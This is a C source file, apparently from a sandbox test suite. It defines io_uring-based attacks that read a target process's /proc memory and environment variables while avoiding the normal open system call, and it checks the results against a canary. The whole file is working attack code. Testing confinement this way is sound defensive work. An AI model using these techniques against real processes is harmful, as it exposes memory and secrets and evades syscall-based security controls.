/* SPDX-License-Identifier: Apache-2.0 */
/* By io_uring(7), which opens files without a system call that opens files. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <errno.h>
#include <unistd.h>

#include "attack.h"

struct ring {
	int fd;
	char *submissions, *completions;
	struct io_uring_sqe *entries;
	struct io_uring_params params;
};

/* linux/io_uring.h of Linux 6.8 */
#define OP_FIXED_FD_INSTALL 54

static int set_up(struct ring *ring)
{
	const struct io_uring_params *params = &ring->params;
	int rw = PROT_READ | PROT_WRITE;

	memset(ring, 0, sizeof(*ring));
	ring->fd = syscall(SYS_io_uring_setup, 4, &ring->params);
	if (ring->fd < 0)
		return -1;
	ring->submissions = mmap(NULL, params->sq_off.array + params->sq_entries * sizeof(__u32), rw,
				 MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
	ring->completions = mmap(NULL,
				 params->cq_off.cqes +
					 params->cq_entries * sizeof(struct io_uring_cqe),
				 rw, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
	ring->entries = mmap(NULL, params->sq_entries * sizeof(struct io_uring_sqe), rw, MAP_SHARED,
			     ring->fd, IORING_OFF_SQES);
	return ring->submissions == MAP_FAILED || ring->completions == MAP_FAILED ||
			       ring->entries == MAP_FAILED ?
		       -1 :
		       0;
}

/* Has the kernel do one thing; its answer. */
static int have_done(struct ring *ring, const struct io_uring_sqe *entry)
{
	unsigned int *tail = (void *)(ring->submissions + ring->params.sq_off.tail);
	unsigned int *array = (void *)(ring->submissions + ring->params.sq_off.array);
	unsigned int *head = (void *)(ring->completions + ring->params.cq_off.head);
	struct io_uring_cqe *answers = (void *)(ring->completions + ring->params.cq_off.cqes);
	unsigned int index = *tail & (ring->params.sq_entries - 1);
	int answer;

	ring->entries[index] = *entry;
	array[index] = index;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	answer = answers[*head & (ring->params.cq_entries - 1)].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	errno = answer < 0 ? -answer : 0;
	return answer < 0 ? -1 : answer;
}

static long read_by_ring(const struct prey *prey, const char *name, unsigned long offset)
{
	struct io_uring_sqe entry = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .open_flags = O_RDONLY };
	struct ring ring;
	char path[64];
	int length;

	snprintf(path, sizeof(path), "/proc/%d/%s", prey->pid, name);
	entry.addr = (unsigned long)path;
	if (set_up(&ring))
		return -1;
	entry.fd = have_done(&ring, &entry);
	if (entry.fd < 0)
		return -1;
	entry.opcode = IORING_OP_READ;
	entry.open_flags = 0;
	entry.addr = (unsigned long)loot;
	entry.len = PAGE_BYTES;
	entry.off = offset;
	length = have_done(&ring, &entry);
	close_again(entry.fd);
	close_again(ring.fd);
	return length < 0 ? (errno == EIO ? 0 : -1) : canary_bytes(loot, length);
}

/* Opens it into the first slot of the ring's own table, where it has no descriptor. */
static int open_into_slot(struct ring *ring, const struct prey *prey)
{
	struct io_uring_sqe entry = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .file_index = 1 };
	int none = -1;
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/mem", prey->pid);
	entry.addr = (unsigned long)path;
	if (set_up(ring) || syscall(SYS_io_uring_register, ring->fd, IORING_REGISTER_FILES, &none, 1))
		return -1;
	return have_done(ring, &entry);
}

static long answer_of(const struct ring *ring, long length)
{
	close_again(ring->fd);
	return length < 0 ? (errno == EIO ? 0 : -1) : canary_bytes(loot, length);
}

static long memory_by_slot(const struct prey *prey)
{
	struct io_uring_sqe entry = {
		.opcode = IORING_OP_READ,
		.flags = IOSQE_FIXED_FILE,
		.addr = (unsigned long)loot,
		.len = PAGE_BYTES,
		.off = prey->address,
	};
	struct ring ring;

	if (open_into_slot(&ring, prey) < 0)
		return -1;
	return answer_of(&ring, have_done(&ring, &entry));
}

/* And from there to where it is a descriptor. */
static long memory_by_installed_slot(const struct prey *prey)
{
	struct io_uring_sqe entry = { .opcode = OP_FIXED_FD_INSTALL, .flags = IOSQE_FIXED_FILE };
	struct ring ring;
	int fd;

	if (open_into_slot(&ring, prey) < 0)
		return -1;
	fd = have_done(&ring, &entry);
	return fd < 0 ? -1 : answer_of(&ring, pread(fd, loot, PAGE_BYTES, prey->address));
}

static long memory(const struct prey *prey)
{
	return read_by_ring(prey, "mem", prey->address);
}

static long environment(const struct prey *prey)
{
	return read_by_ring(prey, "environ", 0);
}

const struct attack ring_attacks[] = {
	{ "io-uring-mem", NULL, memory },
	{ "io-uring-mem-slot", NULL, memory_by_slot },
	{ "io-uring-mem-installed", NULL, memory_by_installed_slot },
	{ "io-uring-environ", NULL, environment },
	{ 0 },
};
